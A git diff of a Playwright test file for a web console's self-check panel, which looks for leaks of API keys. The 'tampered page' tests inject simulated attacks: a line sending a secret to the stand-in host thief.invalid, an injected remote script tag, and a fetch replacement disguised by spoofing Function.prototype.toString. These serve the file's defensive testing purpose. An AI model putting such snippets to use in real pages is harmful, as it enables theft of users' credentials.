@@ -1,41 +1,43 @@
-import { AxeBuilder } from '@axe-core/playwright'
 import type { Page } from '@playwright/test'
 import { portalUrl } from '../support/test-places.ts'
-import { expect, test } from './fixtures.ts'
+import { expect, test as base } from './fixtures.ts'
 import { SelfCheckPage } from './pages/self-check-page.ts'
 import { leakOnSend, leakOnTyping, leaks } from './support/leaks.ts'
 import { readClipboard } from './support/read-clipboard.ts'
 import { recordTraffic } from './support/record-traffic.ts'
 import { rewritePages } from './support/rewrite-pages.ts'
+import { runAxe } from './support/run-axe.ts'
+
+const test = base.extend<{ readonly check: SelfCheckPage }>({
+  check: async ({ page }, use) => {
+    await use(new SelfCheckPage(page))
+  },
+})
 
 const notFound = /^Not found\. A made-up key was used like a real one and looked for in 18 places\./
 
-test.describe('On the site as it was built', () => {
-  test('The check finds its decoys everywhere and its key nowhere', async ({ page, context }) => {
+test.describe('On the unchanged site', () => {
+  test('The check finds its decoys everywhere and its key nowhere', async ({ context, check }) => {
     const traffic = recordTraffic(context)
-    const check = new SelfCheckPage(page)
-    await check.open()
-    await check.runToEnd()
+    await check.openAndRun()
     await expect(check.verdict).toHaveText(notFound)
     await expect(check.functions).toContainText(
-      'As the browser made them, compared with those of a fresh frame.',
+      'The browser’s own, compared with those of a fresh frame.',
     )
     await expect(check.places.getByText('not found')).toHaveCount(18)
     await expect(check.hosts.getByRole('listitem')).toHaveCount(1)
-    await expect(check.hosts).toContainText('one with the made-up key (answered with 200)')
+    await expect(check.hosts).toContainText('one with the made-up key (status 200)')
     await expect(check.policy).toContainText(
-      'In force: a call that it forbids was blocked just now.',
+      'In force: a request that it forbids was just blocked.',
     )
     await expect(check.policy).toContainText('it blocked nothing else')
 
-    await traffic.settle()
-    const withKey = traffic.requests.filter(({ text }) => text.includes('fake_check_'))
+    const withKey = await traffic.listRequestsWith('fake_check_')
     expect(withKey.map(({ url }) => url)).toEqual([`${portalUrl}/openapi.json`])
     expect(traffic.requests.filter(({ url }) => !isOwn(url))).toEqual([])
   })
 
-  test('No decoy and no made-up key is left behind', async ({ page }) => {
-    const check = new SelfCheckPage(page)
+  test('No decoy and no made-up key is left behind', async ({ page, check }) => {
     await check.open('/console/#snippet=go')
     const before = await describeTraces(page)
     await check.runToEnd()
@@ -44,8 +46,7 @@ test.describe('On the site as it was built', () => {
     await expect(check.console.language).toHaveValue('go')
   })
 
-  test('A key that is held stays held', async ({ page, createKey }) => {
-    const check = new SelfCheckPage(page)
+  test('A held key stays held', async ({ createKey, check }) => {
     await check.open()
     await check.console.enterKey(await createKey('Checked'))
     await check.runToEnd()
@@ -56,25 +57,23 @@ test.describe('On the site as it was built', () => {
     await expect(check.verdict).toHaveText(notFound)
   })
 
-  test('The report is copied as text, without any key', async ({ page, context }) => {
+  test('The report is copied as text, without any key', async ({ context, check }) => {
     await context.grantPermissions(['clipboard-read', 'clipboard-write'])
-    const check = new SelfCheckPage(page)
-    await check.open()
-    await check.runToEnd()
+    await check.openAndRun()
     await check.copy.click()
     await expect(check.panel.getByText('Copied')).toBeVisible()
     const report = await readClipboard(context)
     expect(report).toContain(`Check of the console at ${portalUrl}\nNot found.`)
-    expect(report).toContain('- As the browser made them, compared with those of a fresh frame')
+    expect(report).toContain('- The browser’s own, compared with those of a fresh frame')
     expect(report).toContain('- IndexedDB: not found')
     expect(report).toContain("In the page: default-src 'none'")
     expect(report).not.toMatch(/fake_(?:check|decoy)_/)
   })
 
-  test('The keyboard opens the panel and runs the check, and its end is announced', async ({
+  test('The keyboard opens the panel and runs the check, and the result is announced', async ({
     page,
+    check,
   }) => {
-    const check = new SelfCheckPage(page)
     await check.console.open()
     await check.summary.focus()
     await page.keyboard.press('Enter')
@@ -86,8 +85,7 @@ test.describe('On the site as it was built', () => {
     await expect(check.again).toBeFocused()
   })
 
-  test('Its code is not loaded before the panel is opened', async ({ page, context }) => {
-    const check = new SelfCheckPage(page)
+  test('Its code is not loaded before the panel is opened', async ({ page, context, check }) => {
     const traffic = recordTraffic(context)
     const isLoaded = () => traffic.requests.some(({ url }) => url.includes('SelfCheckPanel'))
     await check.console.open()
@@ -101,41 +99,37 @@ test.describe('On the site as it was built', () => {
   })
 
   for (const colorScheme of ['light', 'dark'] as const) {
-    test(`Axe finds nothing in the panel in ${colorScheme}`, async ({ page }) => {
+    test(`Axe finds nothing in the panel in ${colorScheme}`, async ({ page, check }) => {
       await page.emulateMedia({ colorScheme })
-      const check = new SelfCheckPage(page)
       await check.open()
-      expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([])
+      expect(await runAxe(page)).toEqual([])
       await check.runToEnd()
-      expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([])
+      expect(await runAxe(page)).toEqual([])
     })
   }
 
-  test('At 320 px the result is not wider than the window', async ({ page }) => {
+  test('At 320 px, the result is not wider than the window', async ({ page, check }) => {
     await page.setViewportSize({ width: 320, height: 640 })
-    const check = new SelfCheckPage(page)
-    await check.open()
-    await check.runToEnd()
+    await check.openAndRun()
     expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(320)
   })
 })
 
-test.describe('In a page that was tampered with', () => {
+test.describe('In a tampered page', () => {
   for (const [index, [place, statement]] of leaks.entries()) {
-    test(`A leak is found in ${place} (${index + 1})`, async ({ page }) => {
+    test(`A leak is found in ${place} (${index + 1})`, async ({ page, check }) => {
       await page.addInitScript(leakOnSend(statement))
-      const check = new SelfCheckPage(page)
-      await check.open()
-      await check.runToEnd()
+      await check.openAndRun()
       await expect(check.verdict).toHaveText(/^Found\./)
       await expect(check.find(place)).toContainText('FOUND')
       await expect(check.panel).not.toContainText('fake_check_')
     })
   }
 
-  test('A function that was replaced is named, whatever it does with a key', async ({
+  test('A replaced function is named, whatever it does with a key', async ({
     page,
     context,
+    check,
   }) => {
     await context.grantPermissions(['clipboard-read', 'clipboard-write'])
     await page.addInitScript(`if (self === top) {
@@ -143,9 +137,7 @@ test.describe('In a page that was tampered with', () => {
       globalThis.fetch = (...all) => real(...all)
       Function.prototype.toString = () => 'function fetch() { [native code] }'
     }`)
-    const check = new SelfCheckPage(page)
-    await check.open()
-    await check.runToEnd()
+    await check.openAndRun()
     await expect(check.verdict).toHaveText(/^Not found, but functions .* were replaced: fetch\./)
     await expect(check.functions).toContainText('Replaced: fetch.')
     await check.copy.click()
@@ -153,81 +145,81 @@ test.describe('In a page that was tampered with', () => {
     expect(await readClipboard(context)).toContain('- Replaced: fetch\n')
   })
 
-  test('A field that writes its value into the markup is found', async ({ page }) => {
+  test('A field that writes its value into the markup is found', async ({ page, check }) => {
     await page.addInitScript(leakOnTyping)
-    const check = new SelfCheckPage(page)
-    await check.open()
-    await check.runToEnd()
+    await check.openAndRun()
     await expect(check.find('attributes')).toContainText('while it was in the field')
   })
 
-  test('A call to another host is blocked and listed, with what it carried', async ({ page }) => {
+  test('A request to another host is blocked and listed with what it carried', async ({
+    page,
+    check,
+  }) => {
     await page.addInitScript(
       leakOnSend(`send('https://thief.invalid/?' + secret).catch(() => undefined)`),
     )
-    const check = new SelfCheckPage(page)
-    await check.open()
-    await check.runToEnd()
+    await check.openAndRun()
     await expect(check.policy).toContainText(
       'connect-src: https://thief.invalid, with the made-up key',
     )
     await expect(check.verdict).toHaveText(/^Found\./)
   })
 
-  test('What the policy blocked before the console was there is listed', async ({ page }) => {
+  test('The report lists what the policy blocked before the console loaded', async ({
+    page,
+    check,
+  }) => {
     await rewritePages(page, (text) =>
       text.replace('</head>', '<script src="https://thief.invalid/x.js"></script></head>'),
     )
-    const check = new SelfCheckPage(page)
-    await check.open()
-    await check.runToEnd()
+    await check.openAndRun()
     await expect(check.policy).toContainText('script-src-elem: https://thief.invalid')
   })
 
-  test('Without a policy it says so', async ({ page }) => {
+  test('The report says if there is no policy', async ({ page, check }) => {
     await rewritePages(page, (text) =>
       text.startsWith('<') ? text.replace('Content-Security-Policy', 'Nothing') : '',
     )
-    const check = new SelfCheckPage(page)
-    await check.open()
-    await check.runToEnd()
+    await check.openAndRun()
     await expect(check.policy).toContainText('No policy is in force')
   })
 })
 
-test.describe('Where the check cannot be done', () => {
-  test('A place that the browser refuses is not called clean', async ({ page }) => {
+test.describe('If the check cannot complete', () => {
+  test('A place that the browser refuses to read is not reported as clean', async ({
+    page,
+    check,
+  }) => {
     await page.addInitScript(
       `indexedDB.open = () => { throw new DOMException('', 'SecurityError') }`,
     )
-    const check = new SelfCheckPage(page)
-    await check.open()
-    await check.runToEnd()
+    await check.openAndRun()
     await expect(check.verdict).toHaveText(/^Not found in 17 of 18 places\./)
     await expect(check.find('IndexedDB')).toContainText('The browser refused: SecurityError.')
   })
 
-  test('A detector that is blind is not trusted', async ({ page }) => {
+  test('A detector that misses its decoy is not trusted', async ({ page, check }) => {
     await page.addInitScript(`performance.getEntries = () => []`)
-    const check = new SelfCheckPage(page)
-    await check.open()
-    await check.runToEnd()
-    await expect(check.find('the list of requests')).toContainText('was not found again')
+    await check.openAndRun()
+    await expect(check.find('the list of requests')).toContainText(
+      'A decoy placed there was not found.',
+    )
   })
 
-  test('A site that does not answer ends the check with what to do', async ({ page }) => {
-    const check = new SelfCheckPage(page)
+  test('If the site does not respond, the check says what to do', async ({ page, check }) => {
     await check.open()
     await page.route('**/openapi.json', (route) => route.abort())
     await check.run.click()
-    await expect(check.panel).toContainText('This site did not answer')
+    await expect(check.panel).toContainText('This site did not respond')
     await page.unroute('**/openapi.json')
     await check.runToEnd()
     await expect(check.verdict).toHaveText(notFound)
   })
 
-  test('A panel that cannot be loaded says so, and the console works on', async ({ page }) => {
-    const check = new SelfCheckPage(page)
+  test('If the panel cannot be loaded, it says so, and the console still works', async ({
+    page,
+    check,
+  }) => {
     await page.route('**/SelfCheckPanel*', (route) => route.abort())
     await check.console.open()
     await check.summary.click()
@@ -240,7 +232,7 @@ function isOwn(url: string): boolean {
   return url.startsWith(`${portalUrl}/`) || url === 'data:,self-check'
 }
 
-/** What a page can leave behind, as far as the check could have added to it. */
+/** Everything that the check could leave behind. */
 async function describeTraces(page: Page) {
   const cookies = await page.context().cookies()
   const inPage = await page.evaluate(async () => {
